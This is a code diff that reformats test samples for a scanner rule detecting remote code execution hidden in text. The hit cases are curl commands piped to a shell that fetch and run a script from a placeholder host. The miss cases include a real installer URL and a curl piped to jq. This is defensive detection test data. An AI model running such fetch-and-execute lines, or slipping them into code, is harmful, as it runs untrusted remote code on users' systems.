@@ -202,12 +202,24 @@ pub(super) const SAMPLES: &[RuleSamples] = &[
     RuleSamples {
         rule: "remote-execution/in-a-text",
         hits: &[
-            ("run.py", "STEPS = ['curl -s https://get.mirror.invalid/x | sh']"),
-            ("run.js", "const hint = 'bash <(curl -s https://get.mirror.invalid/x)';"),
+            (
+                "run.py",
+                "STEPS = ['curl -s https://get.mirror.invalid/x | sh']",
+            ),
+            (
+                "run.js",
+                "const hint = 'bash <(curl -s https://get.mirror.invalid/x)';",
+            ),
         ],
         misses: &[
-            ("run.py", "STEPS = ['curl -LsSf https://astral.sh/uv/install.sh | sh']"),
-            ("run.py", "STEPS = ['curl -s https://data.mirror.invalid/x | jq .']"),
+            (
+                "run.py",
+                "STEPS = ['curl -LsSf https://astral.sh/uv/install.sh | sh']",
+            ),
+            (
+                "run.py",
+                "STEPS = ['curl -s https://data.mirror.invalid/x | jq .']",
+            ),
         ],
     },
     RuleSamples {
